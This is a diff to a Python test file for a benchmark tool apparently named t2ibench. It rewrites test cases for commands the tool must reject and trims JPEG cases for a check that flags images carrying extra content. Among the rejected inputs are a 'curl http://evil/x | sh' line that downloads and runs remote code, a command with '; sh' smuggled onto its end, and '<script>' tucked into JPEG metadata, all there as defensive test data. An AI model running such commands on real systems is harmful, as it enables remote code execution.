@@ -39,21 +39,21 @@ def test_a_command_is_read_back(settings: RunSettings) -> None:
 @pytest.mark.parametrize(
     "command",
     [
-        [],
-        ["curl", "http://evil/x", "|", "sh"],
-        ["t2ibench", "run", "--model"],
-        ["t2ibench", "run", "--model", "toyland", "--tasks", "all", ";", "sh"],
-        ["t2ibench", "run", "--tasks", "all", "--model", "toyland"],
-        ["t2ibench", "run", "--model", "toyland", "--tasks", "all", "--seed", "0"],
-        ["t2ibench", "run", "--model", "toyland", "--tasks", "all", "--times", "lots"],
-        ["t2ibench", "run", "--model", "toyland", "--tasks", "all", "--include-path", "/tmp"],
-        ["t2ibench", "run", "--model", "a", "--model", "toyland", "--tasks", "all"],
-        ["t2ibench", "run", "--model", "x" * 30_000],
+        "",
+        "curl http://evil/x | sh",
+        "t2ibench run --model",
+        "t2ibench run --model toyland --tasks all ; sh",
+        "t2ibench run --tasks all --model toyland",
+        "t2ibench run --model toyland --tasks all --seed 0",
+        "t2ibench run --model toyland --tasks all --times lots",
+        "t2ibench run --model toyland --tasks all --include-path /tmp",
+        "t2ibench run --model a --model toyland --tasks all",
+        f"t2ibench run --model {'x' * 30_000}",
     ],
 )
-def test_a_command_that_t2ibench_does_not_write(command: list[str]) -> None:
+def test_a_command_that_t2ibench_does_not_write(command: str) -> None:
     with pytest.raises(T2IBenchError, match="its command is not one that t2ibench writes"):
-        settings_of(command)
+        settings_of(command.split())
 
 
 def test_the_command_is_the_one_of_the_run(packed: Path) -> None:
@@ -82,13 +82,11 @@ def test_a_plain_jpeg_holds_its_image_alone() -> None:
         jpeg(comment=b"<script>"),
         jpeg(exif=b"Exif\0\0<script>"),
         jpeg()[:-2],
-        b"",
-        b"\xff\xd8",
         b"\xff\xd8\xff\xda",
         b"\xff\xd8\xff\xd9\xff\xd9",
         b"GIF89a" + jpeg(),
     ],
-)  # fmt: skip
+)
 def test_a_jpeg_that_holds_more(data: bytes) -> None:
     assert not is_bare(data)
 
